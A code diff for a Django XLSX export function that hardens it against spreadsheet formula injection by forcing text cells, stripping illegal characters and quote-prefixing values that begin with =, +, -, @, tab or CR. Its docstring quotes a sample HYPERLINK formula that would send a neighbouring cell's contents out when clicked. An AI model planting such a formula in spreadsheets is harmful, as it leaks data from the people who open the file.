@@ -1,5 +1,15 @@
 """Every list exports to XLSX through this one function: a header row, typed cells (dates stay
-dates, shown as 2026. 3. 5.), a frozen header and a Korean file name."""
+dates, shown as 2026. 3. 5.), a frozen header and a Korean file name.
+
+Text is always written as a string cell, never as a formula. A title is typed by anyone (or by
+another institution's sender, through exchange), and openpyxl would write a text starting with
+"=" as a live formula: `=HYPERLINK("http://…"&B2,"열기")` in a 접수 list becomes a link that
+carries the neighbouring cell away when the 문서과 clicks it. A string cell keeps the text exactly
+as typed (our own imports read it back unchanged, where a leading apostrophe would become part of
+the value); text that starts the way a formula does (the OWASP CSV-injection list: = + - @, tab,
+CR) also gets Excel's quotePrefix, so it stays text even after someone edits the cell and presses
+Enter, and the apostrophe is not shown.
+"""
 
 from __future__ import annotations
 
@@ -10,16 +20,32 @@ from urllib.parse import quote
 
 from django.http import HttpResponse
 from django.utils import timezone
+from django.utils.functional import Promise
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 _DATE_FORMAT = 'yyyy". "m". "d"."'
 _DATETIME_FORMAT = 'yyyy". "m". "d". "hh:mm'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def text_cell(sheet, text: str) -> WriteOnlyCell:
+    # Control characters XML cannot carry (a pasted \x01, say) would make openpyxl refuse the whole
+    # export; they become U+FFFD so the rest of the text is still there to read.
+    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
+    cell = WriteOnlyCell(sheet, value=text)
+    cell.data_type = "s"
+    if text.startswith(FORMULA_STARTS):
+        cell.quotePrefix = True
+    return cell
 
 
 def _cell(sheet, value):
+    if isinstance(value, str | Promise):
+        return text_cell(sheet, str(value))
     if isinstance(value, datetime):
         local = timezone.localtime(value) if timezone.is_aware(value) else value
         cell = WriteOnlyCell(sheet, value=local.replace(tzinfo=None))
@@ -38,7 +64,7 @@ def xlsx_bytes(*, title: str, headers: Sequence[str], rows: Iterable[Sequence]) 
     sheet.freeze_panes = "A2"
     header_cells = []
     for text in headers:
-        cell = WriteOnlyCell(sheet, value=str(text))
+        cell = text_cell(sheet, str(text))
         cell.font = Font(bold=True)
         header_cells.append(cell)
     sheet.append(header_cells)
